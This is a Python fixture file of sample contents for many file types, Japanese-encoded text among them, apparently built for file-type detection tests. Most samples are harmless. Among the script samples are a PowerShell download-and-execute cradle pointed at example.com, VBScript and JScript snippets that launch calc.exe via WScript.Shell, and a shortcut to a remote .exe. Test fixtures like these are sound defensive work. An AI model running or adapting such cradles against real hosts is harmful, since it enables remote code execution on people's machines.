# SPDX-License-Identifier: GPL-2.0-only
"""Files that are text: mail, calendars, cards, pages, scripts, tables, in the encodings that Japan writes."""

JAPANESE = "令和八年度の予算について、次のとおり通知します。\r\n総務課　髙橋①\r\n"
PLAIN = "令和八年度の予算について、次のとおり通知します。\r\n総務課　高橋\r\n"

CALENDAR = ("BEGIN:VCALENDAR\r\nVERSION:2.0\r\nPRODID:-//x//y//JA\r\nMETHOD:REQUEST\r\nBEGIN:VEVENT\r\nUID:1@example.com\r\nDTSTART:20261121T000000Z\r\n"
            "SUMMARY:定例会\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n").encode()
CARD = "BEGIN:VCARD\r\nVERSION:3.0\r\nFN:山田太郎\r\nEND:VCARD\r\n".encode()
MAIL = ("Received: from a by b; Sat, 21 Nov 2026 09:00:00 +0900\r\nFrom: a@example.com\r\nTo: b@example.com\r\nSubject: x\r\n"
        "Date: Sat, 21 Nov 2026 09:00:00 +0900\r\nMessage-ID: <2@example.com>\r\n\r\nhello\r\n").encode()
HTML = '<!DOCTYPE html><html><head><meta charset="utf-8"><title>お知らせ</title></head><body><p>本文 <a href="https://example.com/">リンク</a></p></body></html>'.encode()
SVG = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><rect width="9" height="9" fill="#08f"/></svg>'
HTA = b'<html><head><HTA:APPLICATION ID="a" APPLICATIONNAME="a"><script>x=1</script></head></html>'
CSV = "番号,氏名,金額\r\n1,山田太郎,1000\r\n2,鈴木花子,2000\r\n"
MHT = (b'MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary="b"; type="text/html"\r\n\r\n--b\r\nContent-Location: http://example.com/\r\n'
       b"Content-Type: text/html\r\n\r\n<html><body>x</body></html>\r\n--b--\r\n")
SHELL = b"#!/bin/sh\necho hello\n"
PYTHON = b"#!/usr/bin/env python3\nprint('hello')\n"
BATCH = b"@echo off\r\necho hello\r\n"
VBS = b'Set s = CreateObject("WScript.Shell")\r\ns.Run "calc.exe"\r\n'
JSCRIPT = b'var s = new ActiveXObject("WScript.Shell");\r\ns.Run("calc.exe");\r\n'
POWERSHELL = b"$c = New-Object System.Net.WebClient\r\nInvoke-Expression $c.DownloadString('http://example.com/a')\r\n"
WSF = b'<job id="a"><script language="JScript">WScript.Echo(1);</script></job>'
URL = b"[InternetShortcut]\r\nURL=file://example.com/a.exe\r\n"
DESKTOP = b"[Desktop Entry]\nType=Application\nExec=/bin/sh\nName=a\n"
REG = b"Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\Software]\r\n"
PHP = b"<?php echo 1; ?>\n"
